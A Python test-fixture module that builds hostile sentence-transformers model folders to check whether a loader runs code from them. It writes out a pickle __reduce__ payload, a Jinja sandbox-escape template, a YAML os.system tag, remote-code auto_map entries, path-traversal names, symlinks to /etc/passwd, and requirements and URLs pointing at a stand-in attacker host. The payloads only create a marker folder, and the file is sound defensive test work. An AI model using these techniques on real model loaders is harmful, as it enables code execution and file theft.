"""Folders that try to get out: what a model folder may say of encoders, and what a sentence-transformers folder may hold.

Each maker of `ENCODERS` spoils a good sentence-transformers folder; each name of `NAMES` is what a model folder calls an encoder.
`marker` is a path: where it exists afterwards, code of the folder ran.
"""

from __future__ import annotations

import json
import os
import pickle
import shutil
from collections.abc import Callable
from pathlib import Path
from typing import Any

Maker = Callable[[Path, Path], object]

NAMES = (
    "attacker/model", "attacker-model", "all-MiniLM-L6-v2", "sentence-transformers/all-MiniLM-L6-v2", "bert-base-uncased",
    "{encoder}", "../encoder", "./encoder", "encoder", "~/encoder", "/proc/self/cwd/encoder", "/etc/passwd", "/dev/stdin", "/",
    ".", "..", "\\\\attacker\\share\\model", "//attacker/share/model", "file://{encoder}", "{url}/attacker/model",
    "https://huggingface.co/attacker/model", "hf://attacker/model", "s3://attacker/model", "attacker/model@main",
    "attacker/model/deeper", "attacker/model\n", " attacker/model", "attacker\u202e/model", "$HOME/encoder", "a" * 5_000, "models--attacker--model",
)  # fmt: skip
TABLES: tuple[dict[str, Any], ...] = (
    {}, {"revision": "main"}, {"revision": "../../x"}, {"pooling": "cls"}, {"endpoint": "lab"}, {"prompt": "query: "},
)  # fmt: skip


class Harm:
    """Makes the folder `marker` when it is unpickled."""

    def __init__(self, marker: Path) -> None:
        self.marker = marker

    def __reduce__(self) -> tuple[Any, ...]:
        return os.mkdir, (str(self.marker),)


def code(marker: Path) -> str:
    return f"import os\nos.mkdir({str(marker)!r})\nclass Model:\n    load = from_pretrained = staticmethod(lambda *a, **k: None)\n"


def changed(file: str, **values: Any) -> Maker:
    """Keys of a JSON file, which is made where it is absent; "MARKER" in a text stands for the marker's path."""

    def make(folder: Path, marker: Path) -> None:
        path = folder / file
        path.parent.mkdir(exist_ok=True)
        value = json.loads(path.read_text()) if path.exists() else {}
        path.write_text(json.dumps({**value, **values}).replace("MARKER", str(marker)))

    return make


def module(kind: Any, path: Any = "", **more: Any) -> Maker:
    """Another module in the place of pooling."""

    def make(folder: Path, marker: Path) -> None:
        (folder / "modeling_x.py").write_text(code(marker))
        modules = json.loads((folder / "modules.json").read_text())
        modules[1] = {**modules[1], "type": kind, "path": path, **more}
        (folder / "modules.json").write_text(json.dumps(modules))

    return make


def auto_map(file: str, kind: str, where: str) -> Maker:
    def make(folder: Path, marker: Path) -> None:
        (folder / "modeling_x.py").write_text(code(marker))
        changed(file, auto_map={kind: where}, model_type="unknown-type", trust_remote_code=True)(folder, marker)

    return make


def without(*files: str, then: Maker = lambda folder, marker: None) -> Maker:
    def make(folder: Path, marker: Path) -> None:
        for file in files:
            (folder / file).unlink(missing_ok=True)
        then(folder, marker)

    return make


def pickled(file: str, *, whole: bool = False) -> Maker:
    def make(folder: Path, marker: Path) -> None:
        import torch

        (folder / "model.safetensors").unlink(missing_ok=True)
        if whole:
            torch.save({"weight": Harm(marker)}, folder / file)
        else:
            (folder / file).write_bytes(pickle.dumps(Harm(marker)))

    return make


def linked(file: str, to: str) -> Maker:
    def make(folder: Path, marker: Path) -> None:
        (folder / file).unlink(missing_ok=True)
        (folder / file).symlink_to(to)

    return make


def moved_out(file: str) -> Maker:
    def make(folder: Path, marker: Path) -> None:
        shutil.move(folder / file, folder.parent / "outside")
        (folder / file).symlink_to(folder.parent / "outside")

    return make


def text(file: str, content: str) -> Maker:
    return lambda folder, marker: (folder / file).write_text(content.replace("MARKER", str(marker)))


JINJA = "{{ ''.__class__.__mro__[1].__subclasses__()[0].__init__.__globals__['os'].mkdir('MARKER') }}"
BASE = {"base_model_name_or_path": "attacker/base", "peft_type": "LORA", "task_type": "FEATURE_EXTRACTION"}
OWN = "sentence_transformers"
BERT = "sentence_bert_config.json"
INDEX = "model.safetensors.index.json"

ENCODERS: dict[str, Maker] = {
    "Popen as module": module("subprocess.Popen"),
    "system as module": module("os.system"),
    "eval as module": module("builtins.eval"),
    "own code as module": module("modeling_x.Model"),
    "own code of a hub": module("attacker/model--modeling_x.Model"),
    "pickle by a back way": module(f"{OWN}.base.model.pickle"),
    "torch by a back way": module(f"{OWN}.base.model.torch", "model.safetensors"),
    "importlib by a back way": module(f"{OWN}.util.misc.importlib"),
    "a module's function": module(f"{OWN}.util.file_io.snapshot_download"),
    "a backend's export": module(f"{OWN}.backend.export_dynamic_quantized_onnx_model"),
    "router": module(f"{OWN}.models.Router"),
    "clip": module(f"{OWN}.models.CLIPModel"),
    "word embeddings": module(f"{OWN}.models.WordEmbeddings"),
    "cross encoder": module(f"{OWN}.cross_encoder.CrossEncoder"),
    "no class": module(7),
    "no path": module(f"{OWN}.models.Pooling", None),
    "path up": module(f"{OWN}.models.Pooling", "../.."),
    "path absolute": module(f"{OWN}.models.Pooling", "/etc"),
    "path of an address": module(f"{OWN}.models.Pooling", "https://attacker/x"),
    "kwargs of a module": module(f"{OWN}.models.Pooling", "1_Pooling", kwargs=["trust_remote_code"]),
    "modules no list": text("modules.json", '{"0": "x"}'),
    "modules no JSON": text("modules.json", "[" * 100_000),
    "modules empty": text("modules.json", "[]"),
    "auto_map config": auto_map("config.json", "AutoModel", "modeling_x.Model"),
    "auto_map of a hub": auto_map("config.json", "AutoModel", "attacker/model--modeling_x.Model"),
    "auto_map AutoConfig": auto_map("config.json", "AutoConfig", "modeling_x.Model"),
    "auto_map tokenizer": auto_map("tokenizer_config.json", "AutoTokenizer", "modeling_x.Model"),
    "auto_map deep": changed("config.json", text_config={"auto_map": {"AutoModel": "attacker/model--x.Model"}}),
    "custom pipelines": changed("config.json", custom_pipelines={"x": {"impl": "modeling_x.Model"}}),
    "adapter of a hub": changed("adapter_config.json", **BASE),
    "adapter of a path": changed("adapter_config.json", **{**BASE, "base_model_name_or_path": "/etc"}),
    "adapter alone": without("model.safetensors", "config.json", then=changed("adapter_config.json", **BASE)),
    "adapter with code": changed("adapter_config.json", **BASE, auto_mapping={"parent_library": "os", "base_model_class": "system"}),
    "base of a config": changed("config.json", _name_or_path="attacker/base", base_model_name_or_path="attacker/base"),
    "kernels": changed("config.json", _attn_implementation="kernels-community/flash-attn", attn_implementation="attacker/kernel"),
    "kernels deep": changed("config.json", text_config={"attn_implementation": "attacker/kernel:x"}),
    "quantized": changed("config.json", quantization_config={"quant_method": "attacker", "modules_to_not_convert": ["x"]}),
    "bitsandbytes": changed("config.json", quantization_config={"quant_method": "bitsandbytes", "load_in_8bit": True}),
    "unknown model": changed("config.json", model_type="attacker-type"),
    "rag": changed("config.json", model_type="rag"),
    "timm": changed("config.json", model_type="timm_wrapper", architecture="hf-hub:attacker/model"),
    "backbone of a hub": changed("config.json", model_type="detr", backbone="attacker/backbone", use_pretrained_backbone=True),
    "tokenizer of a hub": changed(BERT, tokenizer_name_or_path="attacker/tokenizer"),
    "arguments trust": changed(BERT, model_args={"trust_remote_code": True}, config_args={"trust_remote_code": True}),
    "arguments of a hub": changed(BERT, model_args={"cache_dir": "/", "subfolder": "..", "local_files_only": False}),
    "arguments offload": changed(BERT, model_kwargs={"device_map": "auto", "offload_folder": "MARKER"}),
    "arguments gguf": changed(BERT, model_args={"gguf_file": "attacker.gguf"}),
    "arguments token": changed(BERT, tokenizer_args={"token": "x", "proxies": {"https": "http://attacker"}}),
    "arguments kernels": changed(BERT, model_args={"use_kernels": True}),
    "arguments of a list": changed(BERT, model_args=["trust_remote_code"]),
    "modality code": changed(BERT, modality_config={"text": {"method": "__class__", "method_output_name": "x"}}),
    "task code": changed(BERT, transformer_task="os.system"),
    "output code": changed(BERT, module_output_name="__init__"),
    "length": changed(BERT, max_seq_length=10**9),
    "length text": changed(BERT, max_seq_length="x"),
    "tokenizer class": changed("tokenizer_config.json", tokenizer_class="subprocess.Popen"),
    "tokenizer class rag": changed("tokenizer_config.json", tokenizer_class="RagTokenizer"),
    "tokenizer of python": changed("tokenizer_config.json", tokenizer_class="TokenizersBackend", backend="attacker"),
    "vocabulary by address": changed("tokenizer_config.json", vocab_file="https://attacker/vocab.txt"),
    "vocabulary by path": changed("tokenizer_config.json", vocab_file="/etc/passwd"),
    "tokenizer by address": changed("tokenizer_config.json", tokenizer_file="http://attacker/tokenizer.json"),
    "mistral's regex": changed("tokenizer_config.json", tokenizer_class="MistralCommonBackend", fix_mistral_regex=True),
    "template": changed("tokenizer_config.json", chat_template=JINJA),
    "template file": text("chat_template.jinja", JINJA),
    "no tokenizer": without("tokenizer.json", "tokenizer_config.json", "vocab.txt"),
    "no tokenizer, a name": without("tokenizer.json", then=changed("tokenizer_config.json", name_or_path="attacker/tokenizer")),
    "no weights": without("model.safetensors", then=changed("config.json", _name_or_path="attacker/base")),
    "no config": without("config.json"),
    "index up": without("model.safetensors", then=changed(INDEX, metadata={}, weight_map={"x": "../../../etc/passwd"})),
    "index of an address": without("model.safetensors", then=changed(INDEX, metadata={}, weight_map={"x": "https://attacker/x.safetensors"})),
    "pickle as weights": pickled("pytorch_model.bin"),
    "torch's pickle as weights": pickled("pytorch_model.bin", whole=True),
    "pickle as safetensors": pickled("model.safetensors"),
    "pickled arguments": lambda folder, marker: (folder / "training_args.bin").write_bytes(pickle.dumps(Harm(marker))),
    "pickled pooling": lambda folder, marker: (folder / "1_Pooling" / "pytorch_model.bin").write_bytes(pickle.dumps(Harm(marker))),
    "dense by pickle": lambda folder, marker: (module(f"{OWN}.models.Dense", "2_Dense")(folder, marker), changed("2_Dense/config.json", in_features=64, out_features=8, bias=True, activation_function="torch.nn.modules.linear.Identity")(folder, marker), (folder / "2_Dense" / "pytorch_model.bin").write_bytes(pickle.dumps(Harm(marker)))),
    "dense by system": lambda folder, marker: (module(f"{OWN}.models.Dense", "2_Dense")(folder, marker), changed("2_Dense/config.json", in_features=64, out_features=8, activation_function="os.system")(folder, marker)),
    "dense by torch's hub": lambda folder, marker: (module(f"{OWN}.models.Dense", "2_Dense")(folder, marker), changed("2_Dense/config.json", in_features=64, out_features=8, activation_function="torch.hub.load")(folder, marker)),
    "link to passwd": linked("vocab.txt", "/etc/passwd"),
    "link to a device": linked("vocab.txt", "/dev/zero"),
    "link of weights": moved_out("model.safetensors"),
    "link of a folder": linked("more", "/etc"),
    "link to itself": linked("more", "."),
    "requirements": changed("config_sentence_transformers.json", requirements=["attacker>=1; extra == 'x'", "git+https://attacker/x"]),
    "prompts": changed("config_sentence_transformers.json", prompts={"x": ["a"], "query": {"a": 1}}, default_prompt_name="x"),
    "another kind": changed("config_sentence_transformers.json", model_type="CrossEncoder", activation_fn="os.system"),
    "similarity code": changed("config_sentence_transformers.json", similarity_fn_name="os.system"),
    "truncated": changed("config_sentence_transformers.json", truncate_dim=-5),
    "version text": changed("config_sentence_transformers.json", __version__={OWN: "99.0", "transformers": "x"}),
    "readme": text("README.md", "---\nbase_model: attacker/base\ndatasets: [attacker/data]\nmodel-index: !!python/object/apply:os.system ['x']\n---\n"),
    "config nested": text("config.json", '{"a":' * 50_000),
    "config huge number": changed("config.json", vocab_size=10**15, hidden_size=10**9),
    "config not UTF-8": lambda folder, marker: (folder / "config.json").write_bytes(b"\xff\xfe{}"),
    "own package": lambda folder, marker: ((folder / "transformers.py").write_text(code(marker)), (folder / "sitecustomize.py").write_text(code(marker))),
}  # fmt: skip
